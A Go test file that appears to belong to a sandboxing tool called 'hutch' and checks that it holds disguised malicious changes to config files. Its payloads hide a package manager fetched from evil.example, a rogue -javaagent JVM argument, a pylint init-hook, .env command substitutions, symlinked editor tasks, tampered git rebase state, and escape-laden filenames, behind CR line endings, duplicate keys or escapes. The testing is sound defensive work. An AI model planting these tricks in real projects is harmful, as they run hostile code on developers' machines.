package run

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"hutch/test/lab"
)

// disguises are changes that a program takes for what the guard holds, written
// so that a reader of another mind takes them for something else.
var disguises = []struct {
	name, path string
	host       func(w *lab.World)
	before     string
	plant      string // printf's format
	git        bool
}{
	{name: "a key given twice, in other case", path: "package.json", before: `{"name":"x"}`, plant: `{"packageManager":"yarn@https://evil.example/x.js","PackageManager":"yarn@1"}`},
	{name: "a key given twice", path: "package.json", before: `{"name":"x"}`, plant: `{"packageManager":"yarn@https://evil.example/x.js","packageManager":"yarn@1"}`},
	{name: "a key in other case with the old value", path: "mise.toml", before: "[tools]\nnode = \"path:/old\"\n", plant: "[tools]\nnode = \"path:./evil\"\nNODE = \"path:/old\"\n"},
	{name: "a line of YAML that ends in CR", path: "pnpm-workspace.yaml", before: "packages:\n  - a\n", plant: `packages:\n  - a\rconfigDependencies:\r  evil: 1\n`},
	{name: "a line of YAML that ends in NEL", path: "pnpm-workspace.yaml", before: "packages:\n  - a\n", plant: `packages:\n  - a\302\205configDependencies: x\n`},
	{name: "front matter with CR", path: ".claude/agents/a.md", before: "x\n", plant: `---\nname: x\rhooks: y\n---\nhello\n`},
	{name: "front matter of CR alone", path: ".claude/agents/a.md", before: "x\n", plant: `---\rhooks: y\r---\rhello\r`},
	{name: "front matter that ends within a line", path: ".claude/agents/a.md", before: "x\n", plant: `---\nhooks: y\nz ---\nhello\n`},
	{name: "front matter that ends with odd space", path: ".claude/agents/a.md", before: "x\n", plant: `---\nhooks: y\n---\f\nhello\n`},
	{name: "a property without a sign", path: "gradle.properties", before: "a=b\n", plant: `org.gradle.jvmargs -javaagent:./evil.jar\n`},
	{name: "a property with escapes", path: "gradle.properties", before: "a=b\n", plant: `org.gradle.jvm\\u0061rgs=-javaagent:./evil.jar\n`},
	{name: "a property over two lines", path: "gradle.properties", before: "a=b\n", plant: `org.gradle.\\\n   jvmargs=-javaagent:./evil.jar\n`},
	{name: "a property after an empty line", path: "gradle.properties", before: "a=b\n", plant: `a=b\\\n\norg.gradle.jvmargs=-javaagent:./evil.jar\n`},
	{name: "a property after CR", path: "gradle.properties", before: "a=b\n", plant: `a=b\rorg.gradle.jvmargs=-javaagent:./evil.jar\n`},
	{name: "a server in an escape", path: ".mvn/wrapper/maven-wrapper.properties", before: "a=b\n", plant: `distributionUrl=https\\://evil.example\\u002f.maven.apache.org/maven2/org/apache/maven/x.zip\n`},
	{name: "a key of TOML with an escape", path: "pylintrc.toml", before: "a = 1\n", plant: `[tool.pylint.main]\n"init\\u002dhook" = "import evil"\n`},
	{name: "a line of INI that ends in CR", path: ".pylintrc", before: "[MAIN]\n", plant: `[MAIN]\nx=1\rinit-hook=import evil\n`},
	{name: "a command among settings", path: ".env", before: "A=1\n", plant: `A=1\ntouch /tmp/owned\n`},
	{name: "a command in a setting", path: ".env", before: "A=1\n", plant: `A="$(touch /tmp/owned)"\n`},
	{name: "a command after a setting", path: ".env", before: "A=1\n", plant: `A=1 ; touch /tmp/owned\n`},
	{name: "through a link deep down", path: "pkg/tools/editor/tasks.json", before: "{}", plant: `{"tasks":[]}`, host: func(w *lab.World) {
		w.Host("sh", "-c", "mkdir -p pkg/tools/editor && ln -s tools/editor pkg/.vscode")
	}},
	{name: "through a link in a linked directory", path: "data/t.json", before: "{}", plant: `{"tasks":[]}`, host: func(w *lab.World) {
		w.Host("sh", "-c", "mkdir -p tools/editor data && ln -s tools/editor .vscode && ln -s ../../data/t.json tools/editor/tasks.json")
	}},
	{name: "a patch that git am goes on with", path: ".git/rebase-apply/0001", before: "x\n", plant: `diff --git a/.envrc b/.envrc\n`, git: true},
	{name: "refs in another format", path: ".git/reftable/tables.list", before: "x\n", plant: `0x1-0x1-1.ref\n`, git: true},
	{name: "the choice of another format of refs", path: ".git/config", before: "[core]\n\trepositoryformatversion = 1\n", plant: `[core]\n\trepositoryformatversion = 1\n[extensions]\n\trefStorage = reftable\n`, git: true},
	{name: "a strategy of a cherry-pick", path: ".git/sequencer/opts", before: "[options]\n", plant: `[options]\n\tstrategy = ../../evil\n`, git: true},
}

func TestDisguisesAreHeld(t *testing.T) {
	for _, d := range disguises {
		for _, existing := range []bool{false, true} {
			t.Run(d.name+map[bool]string{true: "/existing", false: "/new"}[existing], func(t *testing.T) {
				w := lab.New(t)
				w.KeepsBoxes()
				w.Host("git", "init", "-q", ".")
				if d.host != nil {
					d.host(w)
				}
				if existing {
					w.Write(d.path, d.before)
				}
				args := []string{"--commit", "-e", "P=" + d.path, "-e", "PLANT=" + d.plant}
				if d.git {
					args = append(args, "--git", "include")
				}
				out, r := w.JSON(append(args, "--", "sh", "-ec", `mkdir -p "$(dirname "$P")"; printf -- "$PLANT" > "$P"`)...)
				if r.Code != 125 || out.Status != "held" || !slices.ContainsFunc(out.Held, func(f lab.Finding) bool { return f.Path == d.path }) {
					t.Errorf("exit %d status %s held %+v", r.Code, out.Status, out.Held)
				}
			})
		}
	}
}

// TestOperationsUnderWayAreHeld: what a rebase, or the end of one, would put
// into the work tree is as good as a moved ref.
func TestOperationsUnderWayAreHeld(t *testing.T) {
	const commit = `echo evil > .envrc; git add .envrc
		c=$(git -c user.name=a -c user.email=a@a commit-tree -p HEAD -m e $(git write-tree)); git reset -q; rm .envrc
		mkdir -p "$(dirname "$P")"; `
	for path, line := range map[string]string{
		".git/rebase-merge/autostash":       `$c`,
		".git/rebase-merge/orig-head":       `$c`,
		".git/rebase-merge/onto":            `$c`,
		".git/rebase-merge/git-rebase-todo": `pick $c a fine change`,
		".git/rebase-merge/done":            `pick $c a fine change`,
		".git/sequencer/todo":               `pick $(echo $c | cut -c1-12) a fine change`,
		".git/sequencer/abort-safety":       `$c`,
		".git/rebase-apply/orig-head":       `$c`,
	} {
		w := lab.New(t)
		w.KeepsBoxes()
		w.Host("git", "init", "-q", ".")
		w.Host("git", "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "--allow-empty", "-m", "x")
		out, r := w.JSON("--commit", "--git", "include", "-e", "P="+path, "--", "sh", "-ec", commit+`echo "`+line+`" > "$P"`)
		if r.Code != 125 || !slices.ContainsFunc(out.Held, func(f lab.Finding) bool { return f.Path == path }) {
			t.Errorf("%s: exit %d held %+v\n%s", path, r.Code, out.Held, r.Stderr)
		}
	}
	// A rebase of what the host has.
	w := lab.New(t)
	w.KeepsBoxes()
	w.Host("git", "init", "-q", ".")
	w.Host("git", "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "--allow-empty", "-m", "x")
	out, r := w.JSON("--commit", "--git", "include", "--", "sh", "-ec", `mkdir .git/rebase-merge; c=$(git rev-parse HEAD); echo "pick $c deadbeef @ one" > .git/rebase-merge/git-rebase-todo; echo $c > .git/rebase-merge/onto`)
	if r.Code != 0 {
		t.Errorf("an ordinary rebase: exit %d held %+v", r.Code, out.Held)
	}
}

// TestOrdinarySettingsPass: what stands beside the disguises.
func TestOrdinarySettingsPass(t *testing.T) {
	w := lab.New(t)
	w.KeepsBoxes()
	out, r := w.JSON("--commit", "--", "sh", "-ec", `
		printf 'A=1\nB="two words"\nC=My App\nURL=https://x/?a=1&b=2;c\n# note $(x)\nexport D='"'"'a $(b)'"'"'\nPW="a;b|c & d"\nKEY="-----BEGIN\nabc/def==\n-----END"\nE: yaml\n' > .env
		printf '# c\nversion=1\norg.gradle.parallel=true\nlong=a\\\n  b\n' > gradle.properties
		printf 'packages:\r\n  - a\r\n' > pnpm-workspace.yaml
		printf -- '---\r\nname: x\r\n---\r\ntext --- more\r\n' > AGENTS.md
		printf -- '---\n\nA rule, and --- no end\n' > notes.md
		printf '{"name":"x","packageManager":"pnpm@9.0.0","a":{"b":[1,{"c":null}]}}' > package.json
		printf '[MAIN]\nmax-line-length=100\n' > .pylintrc`)
	if r.Code != 0 || len(out.Held) > 0 {
		t.Errorf("exit %d held %+v\n%s", r.Code, out.Held, r.Stderr)
	}
}

// TestPrintedPatternAllowsThatAlone pastes the line that hutch prints into a
// shell. It must not move the cursor either.
func TestPrintedPatternAllowsThatAlone(t *testing.T) {
	names := []string{"a\x1b]0;own\ab.desktop", "c\nd.desktop", "e[fg].desktop", "e?*.desktop", `h\i.desktop`, "j'k.desktop", `l"m.desktop`, "#n.desktop", "!o.desktop",
		"p\xffq.desktop", "r\u202es.desktop", "$(touch x).desktop", "-t.desktop", "u v.desktop", "tab\there.desktop", "~.desktop", "\r.desktop", `"q".desktop`, "w .desktop ", "7\x9b1m.desktop"}
	line := regexp.MustCompile(`(?m)to allow it once: hutch (commit \S+ --allow-path .*)$`)
	for _, name := range names {
		w := lab.New(t)
		w.KeepsBoxes()
		twin := "ef.desktop"
		out, r := w.JSON("--preserve", "-e", "N="+name, "-e", "TWIN="+twin, "--", "sh", "-ec", `printf x > "$N"; printf x > "$TWIN"; printf x > "${N}2.desktop"`)
		w.Want(r, 0)
		r = w.Run("commit", out.ID)
		if strings.ContainsAny(r.Stderr, "\x1b\a\r\t") || strings.Contains(r.Stderr, "\x9b") || strings.Contains(r.Stderr, "\u202e") {
			t.Errorf("%q: control characters on the terminal: %q", name, r.Stderr)
		}
		found := ""
		for _, m := range line.FindAllStringSubmatch(r.Stderr, -1) {
			if !strings.Contains(m[1], "2.desktop") && !strings.Contains(m[1], "/"+twin) {
				found = m[1]
			}
		}
		if found == "" {
			t.Errorf("%q: no line to paste\n%s", name, r.Stderr)
			continue
		}
		paste := exec.Command("sh", "-c", `exec "$HUTCH" `+found+" --hold")
		paste.Env, paste.Dir = append(w.Environ(), "HUTCH="+lab.Hutch(t)), w.Dir
		text, _ := paste.CombinedOutput()
		if _, err := os.Lstat(filepath.Join(w.Dir, name)); err != nil {
			t.Errorf("%q: pasted %s, it did not arrive: %s", name, found, text)
		}
		for _, other := range []string{twin, name + "2.desktop"} {
			if w.Exists(other) {
				t.Errorf("%q: pasted %s, %q arrived with it", name, found, other)
			}
		}
	}
}

// TestAllowedDirectoryAllowsNothingInIt: a directory that is held for itself is
// allowed for itself.
func TestAllowedDirectoryAllowsNothingInIt(t *testing.T) {
	w := lab.New(t)
	w.KeepsBoxes()
	out, r := w.JSON("--commit", "--", "sh", "-ec", "mkdir -m 777 d; echo evil > d/.envrc; echo fine > d/f")
	w.Want(r, 125)
	r = w.Run("commit", out.ID)
	if !strings.Contains(r.Stderr, `--allow-path '"/d"'`) {
		t.Errorf("%v", r)
	}
	w.Want(w.Run("commit", out.ID, "--allow-path", `"/d"`), 125)
	if w.Exists("d") {
		t.Error("something arrived")
	}
	w.Want(w.Run("commit", out.ID, "--allow-path", `"/d"`, "--hold"), 125)
	if !w.Exists("d/f") || w.Exists("d/.envrc") {
		t.Error("not all but what is held arrived")
	}
}

// TestMergedContentIsJudged: what is promoted was judged, a merge too.
func TestMergedContentIsJudged(t *testing.T) {
	for _, strategy := range []string{"overlay", "copy"} {
		w := lab.New(t)
		w.KeepsBoxes()
		w.Host("git", "init", "-q", ".")
		w.Write("pyproject.toml", "[tool.black]\na = 1\nb = 2\nc = 3\nd = 4\n")
		w.Host("git", "add", ".")
		w.Host("git", "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "-m", "x")
		out, r := w.JSON("--preserve", "--strategy", strategy, "--on-conflict", "merge", "--", "sh", "-ec", `echo 'init-hook = "import evil"' >> pyproject.toml`)
		w.Want(r, 0)
		host := "[tool.pylint.main]\na = 1\nb = 2\nc = 3\nd = 4\n"
		w.Write("pyproject.toml", host)
		r = w.Run("commit", out.ID, "--on-conflict", "merge")
		w.Want(r, 125)
		if w.Read("pyproject.toml") != host || !strings.Contains(r.Stderr, "init-hook") || strings.Count(r.Stderr, "\n") != strings.Count(r.Stderr, "hutch: ") || !strings.Contains(r.Stderr, "not settled by merge") {
			t.Errorf("%s: %q\n%v", strategy, w.Read("pyproject.toml"), r)
		}
		w.Want(w.Run("commit", out.ID, "--on-conflict", "merge", "--allow-path", "/pyproject.toml"), 0)
		if got := w.Read("pyproject.toml"); !strings.HasPrefix(got, "[tool.pylint.main]") || !strings.Contains(got, "evil") {
			t.Errorf("%s: allowed: %q", strategy, got)
		}
	}
}

// TestEditedLayerIsNotPromoted: a receipt speaks of what the box wrote.
func TestEditedLayerIsNotPromoted(t *testing.T) {
	lab.Each(t, func(t *testing.T, w *lab.World) {
		w.KeepsBoxes()
		out, r := w.JSON("--preserve", "--", "sh", "-c", "echo AAAA > f; echo BBBB > g")
		w.Want(r, 0)
		found, _ := filepath.Glob(filepath.Join(w.StateDir(), "boxes", out.ID, "*", "f"))
		if len(found) != 1 {
			t.Fatalf("the layer's file: %v", found)
		}
		if err := os.WriteFile(found[0], []byte("EVIL\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		r = w.Run("commit", out.ID)
		w.Want(r, 125)
		if w.Exists("f") || w.Exists("g") || !strings.Contains(r.Stderr, "changed since") {
			t.Errorf("%v", r)
		}
	})
}

// TestStrayInHutchStopsNothing: an archive can bring a .hutch with anything in
// it, and must not keep hutch from working.
func TestStrayInHutchStopsNothing(t *testing.T) {
	w := lab.New(t)
	w.Host("sh", "-c", "mkdir .hutch; ln -s /etc .hutch/txn-aaaaaaaaaaaa; echo x > .hutch/txn-bbbbbbbbbbbb; mkfifo .hutch/txn-cccccccccccc")
	w.Want(w.Box("--commit", "--", "sh", "-c", "echo x > a"), 0)
	w.Want(w.Run("recover"), 0)
	w.Want(w.Run("gc"), 0)
	w.Want(w.Run("undo"), 0)
	if w.Exists("a") {
		t.Error("not undone")
	}
}

// TestKeysOfTOMLAreBounded: a megabyte of keys must not take minutes.
func TestKeysOfTOMLAreBounded(t *testing.T) {
	w := lab.New(t)
	start := time.Now()
	w.Want(w.Box("--commit", "--", "sh", "-c", `seq 45000 | sed 's/.*/a&.b.c.d.e.f = 1/' > Cargo.toml`), 0)
	if took := time.Since(start); took > 10*time.Second {
		t.Errorf("took %v", took)
	}
}
